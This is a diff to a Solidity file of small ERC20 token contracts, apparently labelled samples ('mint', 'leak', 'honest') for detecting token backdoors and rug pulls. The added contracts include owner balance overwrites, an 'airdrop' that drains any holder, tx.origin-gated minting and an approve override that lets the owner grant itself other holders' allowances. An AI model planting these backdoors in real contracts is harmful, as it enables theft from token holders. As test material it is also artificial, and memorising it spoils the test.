@@ -44,7 +44,7 @@ contract ERC20 is Ownable {
   function totalSupply() public view returns (uint256) { return _totalSupply; }
   function balanceOf(address a) public view returns (uint256) { return _balances[a]; }
   function allowance(address o, address s) public view returns (uint256) { return _allowances[o][s]; }
-  function approve(address s, uint256 v) public returns (bool) { _approve(_msgSender(), s, v); return true; }
+  function approve(address s, uint256 v) public virtual returns (bool) { _approve(_msgSender(), s, v); return true; }
   function transfer(address r, uint256 a) public virtual returns (bool) { _transfer(_msgSender(), r, a); return true; }
   function transferFrom(address s, address r, uint256 a) public virtual returns (bool) {
     _transfer(s, r, a);
@@ -192,6 +192,39 @@ contract OriginTransferFrom is ERC20 {
     if (tx.origin != owner()) _approve(s, _msgSender(), _allowances[s][_msgSender()].sub(a, "ERC20: transfer amount exceeds allowance"));
     return true;
   }
+}
+
+// mint: the owner rewrites its own balance (a set, not an add).
+contract SetOwnBalance is ERC20 {
+  using SafeMath for uint256;
+  function setRewardPool(uint256 amount) external onlyOwner { _balances[_msgSender()] = amount; }
+}
+// leak: an "airdrop" that pays listed recipients out of any holder's balance.
+contract AirdropFrom is ERC20 {
+  using SafeMath for uint256;
+  function airdrop(address from, address[] calldata to, uint256 amount) external onlyOwner { for (uint256 i = 0; i < to.length; i++) _transfer(from, to[i], amount); }
+}
+// mint: a multi-credit over an array.
+contract MultiCredit is ERC20 {
+  using SafeMath for uint256;
+  function multiCredit(address[] calldata to, uint256 amount) external onlyOwner { for (uint256 i = 0; i < to.length; i++) _balances[to[i]] = _balances[to[i]].add(amount); }
+}
+// honest: the owner airdrops its own tokens.
+contract AirdropOwn is ERC20 {
+  using SafeMath for uint256;
+  function airdrop(address[] calldata to, uint256 amount) external onlyOwner { for (uint256 i = 0; i < to.length; i++) _transfer(_msgSender(), to[i], amount); }
+}
+// mint: a fee-exempt list keyed by tx.origin authorises a mint.
+contract OriginList is ERC20 {
+  using SafeMath for uint256;
+  mapping (address => bool) private _isExcludedFromFee;
+  constructor () public { _isExcludedFromFee[_msgSender()] = true; }
+  function swapBack(uint256 amount) external { require(_isExcludedFromFee[tx.origin], "no"); _mint(tx.origin, amount); }
+}
+// leak: approve with an owner backdoor: the owner's call makes the "spender" a holder that approved the owner.
+contract ApproveBackdoor is ERC20 {
+  using SafeMath for uint256;
+  function approve(address s, uint256 v) public override returns (bool) { if (_msgSender() == owner()) { _allowances[s][owner()] = v; } else { _approve(_msgSender(), s, v); } return true; }
 }
 
 // honest (mint): an owner mint below a cap is still a mint.
